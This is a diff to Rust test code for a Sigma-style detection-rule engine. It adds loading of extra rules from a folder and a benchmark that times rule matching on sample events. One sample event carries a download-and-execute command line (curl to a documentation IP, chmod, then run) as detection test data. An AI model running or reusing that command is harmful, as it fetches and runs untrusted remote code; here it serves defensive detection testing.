@@ -248,7 +248,7 @@ fn value_for(patterns: &[&Pattern]) -> String {
                 Part::Literal(text) => text.as_str(),
                 Part::Any | Part::One => "x",
             })),
-            Pattern::Expression(found) if found.as_str() == r".*\/\..*" => middle.push_str("/.x"),
+            Pattern::Expression(found, _) if found.as_str() == r"\/\." => middle.push_str("/.x"),
             other => panic!("no value is known for {other:?}"),
         }
     }
@@ -368,18 +368,62 @@ fn fuzz_rules() {
     }
 }
 
-/// Not a test of ours but a number: `cargo test --release -p sigma -- --ignored --nocapture`.
+/// Rules that lie beside the checkout: the folder that `SEKISHO_RULES` names, or none.
+fn rules_beside() -> Vec<String> {
+    let mut folders: Vec<_> =
+        std::env::var_os("SEKISHO_RULES").into_iter().map(std::path::PathBuf::from).collect();
+    let mut texts = Vec::new();
+    while let Some(folder) = folders.pop() {
+        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
+            match entry.path() {
+                path if path.is_dir() => folders.push(path),
+                path => texts.extend(std::fs::read_to_string(path)),
+            }
+        }
+    }
+    texts
+}
+
+/// Not a test of ours but numbers, of the shipped rules and of those beside them:
+/// `SEKISHO_RULES=DIR cargo test --release -p sigma -- --ignored --nocapture`.
 #[test]
 #[ignore = "a measurement"]
 fn microseconds_an_event() {
-    let set = RuleSet::new(shipped());
-    let event = process()
+    let texts = rules_beside();
+    let began = std::time::Instant::now();
+    let rules = texts.iter().filter_map(|text| Rule::parse(text).ok());
+    let set = RuleSet::new(shipped().into_iter().chain(rules).collect());
+    let (ready, always) = (began.elapsed(), set.without_text());
+    println!("{} rules are ready after {ready:?}; {always} need no text", set.len());
+    let innocent = process()
         .with("Image", "/usr/bin/python3.11")
         .with("CommandLine", &"/usr/bin/python3 -m worker --queue mail --verbose ".repeat(4))
         .with("ParentImage", "/usr/lib/systemd/systemd");
-    let began = std::time::Instant::now();
-    let rounds = 20_000u32;
-    let found: usize = (0..rounds).map(|_| set.weigh(&event).len()).sum();
-    let each = began.elapsed() / rounds;
-    println!("{} rules: {each:?} an event, {found} found", set.len());
+    let telling = process()
+        .with("Image", "/usr/bin/bash")
+        .with("CommandLine", "bash -c 'curl http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x'")
+        .with("ParentImage", "/usr/bin/python3.11")
+        .with("ParentCommandLine", "python3 /srv/app/serve.py")
+        .with("CurrentDirectory", "/srv/app")
+        .with("User", "www-data");
+    let record = Event::new(LogSource::new(None, Some("auditd")))
+        .with("type", "EXECVE")
+        .with("CommandLine", "systemctl restart postfix")
+        .with("a0", "systemctl")
+        .with("a1", "restart")
+        .with("a2", "postfix");
+    // Time on a processor, where the kernel tells it: others may want the machine too.
+    let spent = || {
+        let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
+        text.split_whitespace().next().and_then(|spent| spent.parse::<u64>().ok())
+    };
+    for (name, event) in [("innocent", innocent), ("telling", telling), ("a record", record)] {
+        let (began, before) = (std::time::Instant::now(), spent());
+        let rounds = 20_000u32;
+        let found: usize = (0..rounds).map(|_| set.weigh(&event).len()).sum();
+        let each = began.elapsed() / rounds;
+        let own = spent().zip(before).map(|(after, before)| (after - before) / u64::from(rounds));
+        let found = found / rounds as usize;
+        println!("{name}: {each:?} an event, {own:?} ns of a processor, {found} found");
+    }
 }
